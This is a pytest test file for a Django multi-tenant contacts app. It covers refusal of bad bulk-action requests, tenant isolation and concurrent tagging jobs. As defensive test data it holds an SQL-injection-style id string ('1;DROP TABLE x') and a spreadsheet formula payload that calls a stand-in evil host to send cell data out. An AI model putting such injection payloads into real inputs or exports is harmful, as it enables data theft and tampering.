"""Bulk actions against hostile input, across tenants, and two jobs over the same contacts."""

from __future__ import annotations

import html
import threading

import pytest
from django.db import connection, connections
from django_tenants.utils import schema_context

from contacts.bulk import services, tasks
from contacts.bulk.selection import MAX_EXPLICIT_IDS, Selection
from contacts.models import BulkOperation, Contact, ContactChange, ContactTag, Tag
from contacts.services import create_contact
from segments import services as lists
from segments.models import ListMembership
from tests.conftest import client_for, in_schema, make_user


def page_of(response) -> str:
    return html.unescape(response.content.decode())


def make_contacts(n: int, prefix: str = "h") -> list[Contact]:
    return [create_contact(data={"email": f"{prefix}{i}@example.com"}) for i in range(n)]


# --- hostile input ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_more_than_10000_explicit_ids_is_refused(tenant, marketer_client):
    ids = ",".join(str(i) for i in range(1, MAX_EXPLICIT_IDS + 2))
    response = marketer_client.post("/contacts/bulk/", {"action": "add_tags", "ids": ids,
                                                        "confirm": "1", "tags": "x"})
    assert response.status_code == 400
    assert ("You can pick at most 10,000 contacts one by one. To act on more, use “Select all "
            "matching” above the table.") in page_of(response)
    assert not BulkOperation.objects.exists() and not Tag.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"action": "drop_table", "ids": "1"}, "Unknown bulk action."),
        ({"action": "delete", "ids": ""}, "Select at least one contact first."),
        ({"action": "delete", "ids": "1;DROP TABLE x"},
         "The selection is not valid; reload the page and try again."),
        ({"action": "delete", "ids": "1", "scope_list_id": "-3"},
         "The list is not valid; reload the page and try again."),
    ],
)
def test_bad_requests_get_a_clear_message(tenant, marketer_client, data, message):
    (contact,) = make_contacts(1)
    response = marketer_client.post("/contacts/bulk/", {**data, "confirm": "1"})
    assert response.status_code == 400
    assert message in page_of(response)
    assert Contact.objects.filter(pk=contact.pk).exists()


@pytest.mark.django_db
def test_tag_names_with_formula_payloads_are_stored_as_text(tenant, marketer, marketer_client):
    (contact,) = make_contacts(1)
    payload = '=HYPERLINK("http://evil.example/?x="&A1)'
    response = marketer_client.post("/contacts/bulk/", {
        "action": "add_tags", "ids": str(contact.pk), "confirm": "1", "tags": f"{payload}, @SUM(1)",
    })
    assert response.status_code == 302
    assert sorted(contact.tags.values_list("name", flat=True)) == [payload, "@SUM(1)"]
    change = ContactChange.objects.get(contact=contact, source__startswith="bulk:")
    assert change.changes == {"tags": [[], [payload, "@SUM(1)"]]}
    page = marketer_client.get("/contacts/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1)" in page


@pytest.mark.django_db
def test_removing_from_a_deleted_list_says_so(tenant, marketer, marketer_client):
    (contact,) = make_contacts(1)
    static_list = lists.create_list(name="Gone soon", actor=marketer)
    sql, params = lists.ids_of([contact.pk])
    lists.add_contacts_to_list(static_list=static_list, ids_sql=sql, params=params, source="manual")
    list_id = static_list.pk
    lists.delete_list(static_list=static_list)
    response = marketer_client.post("/contacts/bulk/", {
        "action": "remove_from_list", "ids": str(contact.pk), "confirm": "1", "list_id": list_id,
    })
    assert response.status_code == 400
    assert "That list no longer exists; it may have been deleted." in page_of(response)
    assert not BulkOperation.objects.exists()
    # Within the list's own page (scope) the selection itself is refused.
    response = marketer_client.post("/contacts/bulk/", {
        "action": "add_tags", "all": "1", "scope_list_id": list_id, "tags": "x"})
    assert response.status_code == 400
    assert "That list no longer exists; it may have been deleted." in page_of(response)


@pytest.mark.django_db
def test_list_deleted_while_the_job_runs_fails_with_partial_report(tenant, marketer, monkeypatch):
    contacts = make_contacts(5)
    static_list = lists.create_list(name="Short-lived", actor=marketer)
    monkeypatch.setattr(services, "MEMBERSHIP_CHUNK_SIZE", 2)
    op = services.start_bulk_operation(
        kind="add_to_list", selection=Selection(ids=[c.pk for c in contacts]),
        options={"list_id": str(static_list.pk)}, user=marketer, inline_limit=0,
    )
    services._run_chunk(op, *Selection.from_json(op.selection).ids_sql())  # first chunk done
    lists.delete_list(static_list=static_list)
    tasks.run_bulk_task(connection.schema_name, op.pk)
    op.refresh_from_db()
    assert (op.status, op.changed) == ("failed", 2)
    assert op.error == ("The list “Short-lived” was deleted while this action ran; 2 contacts "
                        "were done before that.")


# --- tenant isolation ------------------------------------------------------------------------


@pytest.mark.django_db
def test_operation_of_one_tenant_is_404_on_another(tenant, other_tenant, marketer):
    a, b = make_contacts(2)
    op = services.start_bulk_operation(kind="delete", selection=Selection(ids=[a.pk]),
                                       options={}, user=marketer)
    other = client_for(other_tenant, make_user(other_tenant, "owner"))
    for url in (f"/contacts/bulk/{op.pk}/", f"/contacts/bulk/{op.pk}/progress"):
        assert other.get(url).status_code == 404
    assert other.post(f"/contacts/bulk/{op.pk}/undo/").status_code == 404
    assert op.pk not in [o.pk for o in _ops_of(other_tenant)]
    assert "No bulk actions yet" in other.get("/contacts/bulk/history/").content.decode()


def _ops_of(tenant):
    with in_schema(tenant):
        return list(BulkOperation.objects.all())


@pytest.mark.django_db
def test_selection_never_reaches_another_tenant(tenant, other_tenant, marketer):
    mine = make_contacts(2, prefix="mine")
    other_client = client_for(other_tenant, make_user(other_tenant, "marketer"))
    with in_schema(other_tenant):
        assert not Contact.objects.exists()
    response = other_client.post("/contacts/bulk/", {
        "action": "delete", "ids": ",".join(str(c.pk) for c in mine), "confirm": "1"})
    assert response.status_code == 400
    assert "No contacts match this selection any more." in page_of(response)
    with in_schema(other_tenant):
        theirs = make_contacts(3, prefix="theirs")
    response = other_client.post("/contacts/bulk/", {"action": "delete", "all": "1",
                                                     "confirm": "1"})
    assert response.status_code == 302
    with in_schema(tenant):
        assert Contact.objects.filter(pk__in=[c.pk for c in mine]).count() == 2  # untouched
        assert not BulkOperation.objects.exists()
    with in_schema(other_tenant):
        op = BulkOperation.objects.get()
        assert op.changed == 3 and not Contact.objects.filter(pk__in=[c.pk for c in theirs])
    with pytest.raises(ValueError, match="A bulk task needs the schema of a tenant."):
        tasks.run_bulk_task("public", op.pk)


# --- two jobs on the same contacts at the same time ------------------------------------------


@pytest.fixture
def committed_cleanup(tenant):
    yield
    with in_schema(tenant):
        ListMembership.objects.all().delete()
        ContactTag.objects.all().delete()
        ContactChange.objects.all().delete()
        Contact.objects.all().delete()
        Tag.objects.all().delete()
        BulkOperation.objects.all().delete()


@pytest.mark.django_db(transaction=True)
def test_concurrent_bulk_jobs_on_the_same_contacts(tenant, committed_cleanup, monkeypatch):
    marketer = make_user(tenant, "marketer")
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO contacts_contact (email, email_normalized, first_name, last_name, "
            "company, job_title, phone, website, city, country, custom_fields, status, "
            "validation_status, validation_reason, source, created_at, updated_at) "
            "SELECT 'c' || i || '@example.com', 'c' || i || '@example.com', '', '', '', '', "
            "'', '', '', '', '{}', 'active', 'unknown', '', 'test', now(), now() "
            "FROM generate_series(1, 3000) i"
        )
    monkeypatch.setattr(services, "CHUNK_SIZE", 250)
    everyone = Selection(all_matching=True)
    ops = [
        services.start_bulk_operation(kind="add_tags", selection=everyone,
                                      options={"tags": "one"}, user=marketer),
        services.start_bulk_operation(kind="add_tags", selection=everyone,
                                      options={"tags": "two"}, user=marketer),
        services.start_bulk_operation(kind="change_status", selection=everyone,
                                      options={"status": "bounced"}, user=marketer),
    ]
    assert [op.status for op in ops] == ["queued"] * 3
    errors: list[BaseException] = []

    def work(op_id: int) -> None:
        try:
            tasks.run_bulk_task(tenant.schema_name, op_id)
        except BaseException as exc:  # reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=work, args=(op.pk,)) for op in ops]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    with schema_context(tenant.schema_name):
        done = list(BulkOperation.objects.order_by("pk").values_list("status", "changed"))
        assert done == [("finished", 3000)] * 3
        assert ContactTag.objects.count() == 6000
        assert Contact.objects.filter(status="bounced").count() == 3000
        assert ContactChange.objects.filter(source__startswith="bulk:").count() == 9000
